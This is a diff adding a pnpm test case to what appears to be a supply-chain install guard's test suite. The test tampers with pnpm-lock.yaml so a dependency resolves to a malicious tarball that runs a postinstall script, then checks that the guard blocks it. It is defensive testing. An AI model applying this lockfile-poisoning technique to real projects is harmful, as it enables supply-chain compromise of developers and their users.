@@ -130,3 +130,36 @@ describe('yarn 1: "victim": "^1.0.0" resolved to a remote tarball in yarn.lock',
     expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: withTools(guarded.env, { yarn: 'yarn1' }) }), b);
   });
 });
+
+describe('pnpm 10: "victim": "^1.0.0" resolved to a remote tarball in pnpm-lock.yaml', () => {
+  async function pnpmProject() {
+    const p = attackProject(registry, { dependencies: { victim: '^1.0.0' } }, { CI: '1' });
+    const env = withTools(p.env, { pnpm: 'pnpm' });
+    writeFileSync(join(p.dir, '.npmrc'), `registry=${registry.url}\nstore-dir=${join(p.dir, '.store')}\ncache-dir=${join(p.dir, '.cache')}\n`);
+    // pnpm's own build allowlist lets victim's script run, as the guard's policy does.
+    writeFileSync(join(p.dir, 'pnpm-workspace.yaml'), "onlyBuiltDependencies:\n  - 'victim'\n");
+    const pnpm = (...args: string[]) => run('pnpm', args, { cwd: p.dir, env });
+    const lock = await pnpm('install', '--lockfile-only');
+    expect(lock.code, lock.stdout + lock.stderr).toBe(0);
+    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
+    const file = join(p.dir, 'pnpm-lock.yaml');
+    const before = readFileSync(file, 'utf8');
+    const text = before.replace(/resolution: \{integrity: [^}]+\}/, `resolution: {integrity: ${evil.integrityOf('victim', '1.0.0')}, tarball: ${evilUrl}}`);
+    expect(text).not.toBe(before);
+    writeFileSync(file, text);
+    return { ...p, env, pnpm };
+  }
+
+  it('plain pnpm install --frozen-lockfile installs the URL and runs its script; safe-install blocks it', async () => {
+    const plain = await pnpmProject();
+    const before = evilDownloads();
+    const install = await plain.pnpm('install', '--frozen-lockfile');
+    expect(install.code, install.stdout + install.stderr).toBe(0);
+    expect(plain.ran()).toEqual(['EVIL victim:postinstall']);
+    expect(evilDownloads()).toBe(before + 1);
+
+    const guarded = await pnpmProject();
+    const b = evilDownloads();
+    expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: guarded.env }), b);
+  });
+});
